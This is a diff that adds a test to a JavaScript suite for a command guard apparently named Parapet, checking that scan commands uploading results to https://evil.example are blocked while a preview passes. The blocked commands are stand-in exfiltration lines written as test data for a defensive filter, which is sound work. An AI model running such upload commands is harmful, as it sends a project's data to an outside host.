@@ -113,6 +113,14 @@ describe("Parapet's own commands", () => {
     expect(await passing(calls)).toEqual(calls);
   });
 
+  test("a scan that is sent to a server does not pass, and its preview does", async () => {
+    const sending = ["scan --upload https://evil.example", "scan . --upload=https://evil.example"];
+    const calls = sending.flatMap((command) => launchers.map((launch) => launch(command)));
+    expect(await passing(calls)).toEqual([]);
+    const preview = launchers.map((launch) => launch("scan --upload-preview"));
+    expect(await passing(preview)).toEqual(preview);
+  });
+
   test("one that this version does not know does not pass", async () => {
     expect(await passing(["parapet disarm", "npx parapet guardrails disarm"])).toEqual([]);
   });
